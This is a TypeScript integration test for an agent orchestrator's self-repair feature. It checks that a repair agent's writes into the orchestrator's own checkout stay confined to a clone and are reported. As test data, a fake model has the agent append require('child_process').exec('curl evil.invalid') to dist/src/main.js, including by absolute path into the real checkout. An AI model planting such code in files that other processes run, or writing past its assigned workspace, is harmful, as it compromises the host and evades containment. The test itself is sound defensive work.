import fs from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { startConversation } from "../../src/engine/conversations/conversations.js";
import { installRoots } from "../../src/engine/projects/layout.js";
import { addProject } from "../../src/engine/projects/index.js";
import { selfCloneBranch, selfClonePath } from "../../src/engine/workspaces/selfClones.js";
import { listIncidents } from "../../src/engine/coordination/incidents.js";
import { writeTransaction } from "../../src/engine/database.js";
import { codexEngine, finished } from "../support/codexEngine.js";
import { codexHomeParent } from "../support/codexHome.js";
import { OWNER, OWNER_ACTOR } from "../support/coordination.js";
import { git, isolateGit } from "../engine/orchestrations/repo.js";

const MAIN_JS = "console.log('codexpi');\n";

/** What the self checkout shows: HEAD, every ref, its files' state and the code workers load. */
async function checkout(dir: string) {
  return {
    head: await git(dir, "rev-parse", "HEAD"),
    refs: await git(dir, "for-each-ref", "--format=%(refname) %(objectname)"),
    status: await git(dir, "status", "--porcelain", "--untracked-files=all"),
    code: fs.readFileSync(path.join(dir, "dist", "src", "main.js"), "utf8"),
  };
}

// Finding 2: in the documented set-up the self-repair agent worked in codexpi's own checkout and
// appended code to dist/src/main.js, which the next worker ran. Real workers, the real Codex
// binary, a fake model making the agent run a command.
describe("self-repair with the real Codex (finding 2)", () => {
  let env: Awaited<ReturnType<typeof codexEngine>> | undefined;
  let selfDir: string | undefined;
  afterEach(async () => {
    await env?.close();
    if (selfDir) fs.rmSync(selfDir, { recursive: true, force: true });
    env = selfDir = undefined;
  });

  it("a repair agent that writes into the self checkout's dist/src/main.js changes only its clone: the checkout stays as it was, the change is on the repair branch, and the report names it", async () => {
    isolateGit();
    env = await codexEngine();
    // The self checkout lives outside the temp directory: Codex's own sandbox lets commands
    // write /tmp, and this test is about the self checkout, not about /tmp.
    selfDir = fs.mkdtempSync(path.join(codexHomeParent(), "codexpi-self-"));
    await git(selfDir, "init", "-q", "-b", "main");
    fs.mkdirSync(path.join(selfDir, "dist", "src"), { recursive: true });
    fs.writeFileSync(path.join(selfDir, "dist", "src", "main.js"), MAIN_JS);
    await git(selfDir, "add", "-A");
    await git(selfDir, "commit", "-q", "-m", "Base");
    const self = await addProject(
      env.db,
      env.clock,
      { name: "CodexPi (Self)", path: selfDir, role: "self" },
      installRoots(env.config),
    );
    const before = await checkout(selfDir);

    // A user's agent failed: an incident, which the tick sends to self-repair.
    const failed = await startConversation(env.db, env.clock, env.project, "Exécute", OWNER);
    await env.db
      .updateTable("prompt_queue")
      .set({ status: "failed", error: "boom", error_code: "codex_failed", finished_at: env.clock.now() })
      .where("id", "=", failed.item.id)
      .execute();
    await writeTransaction(env.db, (trx) =>
      env!.engine.hook(trx, failed.conversation.id, failed.item.id, "failed", null, "boom"),
    );
    // The repair agent appends to main.js where it works, and to the self checkout's by its path.
    const payload = "require('child_process').exec('curl evil.invalid')";
    const script = `printf '%s\\n' "${payload}" >> dist/src/main.js; printf '%s\\n' "${payload}" >> ${selfDir}/dist/src/main.js; true`;
    env.fake.enqueue(
      { kind: "shell", command: ["sh", "-c", script] },
      {
        kind: "text",
        text: 'Corrigé.\nCODEXPI_SELF_REPAIR {"decision":"fixed","feedback":"garde-fou ajouté","prompt_addendum":""}',
      },
    );
    await env.engine.tick();
    const [repairing] = await listIncidents(env.db, OWNER_ACTOR);
    expect(repairing).toMatchObject({ status: "REPAIRING", repair_project_name: self.name });
    const conversationId = repairing!.repair_conversation_id!;
    const item = await env.db
      .selectFrom("prompt_queue")
      .select("id")
      .where("conversation_id", "=", conversationId)
      .executeTakeFirstOrThrow();
    expect(await finished(env.db, item.id, 60_000)).toMatchObject({ status: "done" });
    await env.engine.tick();

    // The self checkout (its code, HEAD, refs, files) is exactly as it was.
    expect(await checkout(selfDir)).toEqual(before);
    // Control: the agent's write did land — in its clone, committed on the repair branch.
    const clone = selfClonePath(env.config.dataDir, conversationId);
    const branch = selfCloneBranch(conversationId);
    expect(await git(clone, "show", `${branch}:dist/src/main.js`)).toBe(`${MAIN_JS}${payload}`);
    expect(await git(clone, "rev-list", "--count", `${before.head}..${branch}`)).toBe("1");
    // The report names the branch and the clone, how to fetch them, and that nothing is deployed.
    const [resolved] = await listIncidents(env.db, OWNER_ACTOR, { all: true });
    expect(resolved).toMatchObject({ status: "RESOLVED" });
    expect(resolved!.resolution).toContain("garde-fou ajouté");
    expect(resolved!.resolution).toContain(`git fetch ${clone} ${branch}`);
    expect(resolved!.resolution).toContain("Rien n’est fusionné ni déployé");
  });
});
